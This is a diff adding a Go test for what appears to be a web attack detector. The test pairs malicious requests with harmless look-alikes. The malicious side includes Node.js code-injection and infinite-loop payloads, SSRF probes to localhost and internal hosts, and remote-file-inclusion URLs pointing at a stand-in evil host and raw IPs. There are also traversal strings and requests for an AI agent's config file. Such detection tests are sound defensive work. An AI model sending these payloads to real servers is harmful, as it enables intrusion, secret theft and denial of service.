@@ -82,3 +82,22 @@ func TestSQLiFamilyBoundaries(t *testing.T) {
 		{"sqli-db-function", get("/p?v=x%27+or+name_const(1,1)"), get("/p?v=name+const")},
 	})
 }
+
+func TestNodeSSRFRFITraversalBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"nodejs-js-sink", get("/g?foo=console.info.call(this,1)"), get("/g?foo=the+console+is+on+the+info+desk")},
+		{"nodejs-js-sink", get("/g?t=%7B%22get%22%3A%22%243%3Aconstructor%3Aconstructor%22%7D"), get("/g?t=constructor+of+the+house")},
+		{"nodejs-dos-loop", get("/g?eval=while(!false)"), post("/c", jsonCT, `{"code":"while (i < n) { i++ }"}`)},
+		{"nodejs-dos-loop", get("/g?eval=d2hpbGUodHJ1ZSk7Cg=="), get("/g?eval=aGVsbG8gd29ybGQ=")},
+		{"ssrf-internal-hostname", get("/t?url=host.docker.internal/"), get("/t?db_host=localhost")},
+		{"ssrf-internal-hostname", get("/t?url=localhost:8080/admin"), get("/t?q=localhost+testing+guide")},
+		{"ssrf-internal-url", get("/t?http://2852039166/"), get("/t?http://www.example.com/")},
+		{"rfi-ip-url", get("/t?src=http://66.240.183.75/crash.php"), get("/t?src=https://cdn.example.com/crash.php")},
+		{"rfi-ip-url", get("/t?src=https://[2001:41d0:701:1100::29c8]/gecko.php"), get("/t?ts=12:30:45")},
+		{"rfi-url-truncation", get("/t?x=http://evil.example/shell.txt?"), get("/t?x=https://www.example.com/search?q=1")},
+		{"rfi-include-param", get("/c.php?mosConfig_absolute_path=https://foo.bar"), get("/c.php?mosConfig_absolute_path=/var/www")},
+		{"lfi-agent-config", get("/.cursor/mcp.json"), get("/api/v1/cursor/next")},
+		{"lfi-agent-config", get("/wp-content/debug.log"), get("/api/v1/debug/logs")},
+		{"traversal-single", get("/g?a=..;.%5C.;%5C."), get("/g?a=wait...;ok")},
+	})
+}
